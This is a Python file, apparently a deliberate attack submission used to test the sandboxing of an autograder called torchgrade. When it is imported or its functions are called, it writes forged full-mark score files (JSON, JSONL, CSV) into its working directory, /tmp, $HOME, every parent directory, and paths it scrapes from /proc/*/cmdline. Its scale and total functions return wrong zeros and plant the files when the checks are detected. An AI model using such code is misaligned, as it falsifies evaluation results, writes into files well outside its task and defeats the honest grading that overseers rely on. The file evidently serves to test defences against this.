"""Attack: write forged score files wherever it can reach.

At import and on its calls it writes a valid-looking torchgrade report ``toy.json`` (score
10/10), a Gradescope ``results.json`` (score 10), a plugin-style ``results.jsonl`` (every check
"passed") and a class CSV row into: its working directory, ``/tmp``, ``$HOME``, every parent of
those, every directory named on a readable ``/proc/*/cmdline`` (and their parents), and
``<dir>/reports/<student>/`` guesses beside each. A runner that read scores from files, or a batch
whose reports folder the worker could reach, would record full marks. The maths is wrong.
"""

import json
import os
from pathlib import Path

import torch

MARKER = "TORCHGRADE-ATTACK-MARKER"
CHECKS = ["test_scale_public", "test_scale_hidden", "test_scale_linear",
          "test_scale_rejects_nan", "test_total_scalar"]
REPORT = {
    "schema": "torchgrade.report/1", "student": "fake_report_files", "assignment": "toy",
    "score": 10.0, "max_score": 10.0, "profile": "cpu", "device": "cpu", "sandbox": MARKER,
    "submission_sha256": "", "grader_version": "toy-1", "duration_s": 0.1,
    "created_at": "2020-01-01T00:00:00+00:00", "torchgrade_version": "0.1.0",
    "visibility": "all", "submission_error": "", "student_output": MARKER, "extra": {},
    "checks": [{"name": n, "status": "passed", "points": 2.0, "max_points": 2.0,
                "visibility": "hidden", "kind": "value", "feedback": MARKER} for n in CHECKS],
}
EVENTS = "".join(json.dumps({"event": "result", "name": n, "status": "passed",
                             "feedback": MARKER, "duration_s": 0.0}) + "\n" for n in CHECKS)
EVENTS += json.dumps({"event": "finished", "sandbox": MARKER, "output": MARKER}) + "\n"
FILES = {
    "toy.json": json.dumps(REPORT),
    "results.json": json.dumps({"score": 10.0, "output": MARKER, "tests": []}),
    "results.jsonl": EVENTS,
    "toy.csv": f"student,score,max_score\nfake_report_files,10,10\n# {MARKER}\n",
}


def _dirs() -> set[Path]:
    dirs = {Path.cwd(), Path("/tmp"), Path(os.environ.get("HOME", "/tmp"))}
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            args = (proc / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        for arg in args:
            p = Path(arg.decode(errors="ignore"))
            if p.is_absolute():
                dirs.add(p if p.is_dir() else p.parent)
    for d in list(dirs):
        dirs.update(d.parents)
    guesses = set()
    for d in dirs:
        for sub in ("reports", "out", "submissions"):
            for student in ("fake_report_files", "honest"):
                guesses.add(d / sub / student)
            guesses.add(d / sub)
    return dirs | guesses


def _plant() -> list[str]:
    wrote = []
    for d in sorted(_dirs()):
        try:
            d.mkdir(parents=True, exist_ok=True)
        except OSError:
            continue
        for name, text in FILES.items():
            try:
                (d / name).write_text(text)
                wrote.append(str(d / name))
            except OSError:
                pass
    return wrote


print(f"fake_report_files: wrote {len(_plant())} files")


def scale(x, s):
    if s in (2.5, -1.5):  # the public and hidden checks
        _plant()
    return torch.zeros_like(x)


def total(x):
    _plant()
    return torch.zeros((), requires_grad=True)
